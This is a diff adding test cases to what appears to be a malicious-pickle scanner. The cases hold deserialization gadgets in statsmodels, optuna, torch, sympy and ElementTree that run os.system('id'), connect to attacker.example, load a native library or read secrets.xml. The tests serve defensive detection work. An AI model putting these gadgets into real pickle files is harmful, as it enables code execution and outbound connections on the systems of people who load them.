@@ -171,6 +171,48 @@ describe("an attack by the state of objects", () => {
       least: "critical",
     },
     {
+      hope: "statsmodels evaluates the formula in the state of its data",
+      bytes: () =>
+        whole(
+          withState(
+            made("statsmodels.base.data", "PandasData"),
+            dict({ restore_design_info: [0x88], formula: p.text("y ~ __import__('os').system('id')"), frame: p.none }),
+          ),
+        ),
+      least: "critical",
+    },
+    {
+      hope: "a study's storage connects to the address in its state",
+      bytes: () =>
+        whole(
+          withState(
+            made("optuna.storages._rdb.storage", "RDBStorage"),
+            dict({ url: p.text("mysql://attacker.example/x"), engine_kwargs: p.emptyDict }),
+          ),
+        ),
+      least: "high",
+    },
+    {
+      hope: "a store of torch connects to a host when it is made",
+      bytes: () => whole(call("torch._C._distributed_c10d", "TCPStore", p.text("attacker.example"), p.int(80))),
+      least: "high",
+    },
+    {
+      hope: "a runner of torch loads a native library by a relative name",
+      bytes: () => whole(call("torch._C._aoti", "AOTIModelContainerRunnerCpu", p.text("x.so"), p.int(1))),
+      least: "critical",
+    },
+    {
+      hope: "a method of a harmless class maps a file for writing",
+      bytes: () => whole(call("torch", "UntypedStorage.from_file", p.text("x"), [0x88], p.int(8))),
+      least: "high",
+    },
+    {
+      hope: "an element tree parses any file",
+      bytes: () => whole(call("xml.etree.ElementTree", "ElementTree", p.none, p.text("secrets.xml"))),
+      least: "high",
+    },
+    {
       hope: "sympy evaluates the text that a function is made with, by NEWOBJ",
       bytes: () =>
         whole(made("sympy.functions.elementary.trigonometric", "sin", p.text("__import__('os').system('id')"))),
